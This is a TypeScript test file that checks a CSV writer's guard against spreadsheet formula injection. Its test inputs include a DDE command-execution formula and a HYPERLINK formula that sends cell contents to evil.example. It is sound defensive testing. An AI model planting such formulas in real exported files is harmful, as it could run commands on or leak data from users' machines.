import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, it } from 'vitest'
import { csvRows } from './csv.ts'

const back = (text: string) => parse(text, { relax_column_count: true }) as string[][]

it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\r\n=1', '＝1', '＋1', '－1', '＠A1', '=', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?x="&A1,"x")'])('F120 disarms %j', (cell) => {
  expect(back(csvRows([[cell, 'x']]))).toEqual([[`'${cell}`, 'x']])
})

it('F120 leaves numbers numbers, and text as it is when no spreadsheet would run it', () => {
  expect(csvRows([[-5, 0, 1.5, null, 'a=1', "'=1", '0912345678']])).toBe('-5,0,1.5,,"a=1","\'=1","0912345678"\r\n')
})

it('F120 ends no cell and begins no row within a text, whatever it holds', () => {
  const text = fc.string({ unit: fc.constantFrom('"', ',', ';', '\n', '\r', '\t', '=', '-', 'a', '茶', ' ') })
  fc.assert(fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 4 }), (rows) => {
    const read = back(csvRows(rows))
    expect(read.map((row) => row.map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n])/, '')))).toEqual(rows)
    for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
  }))
})
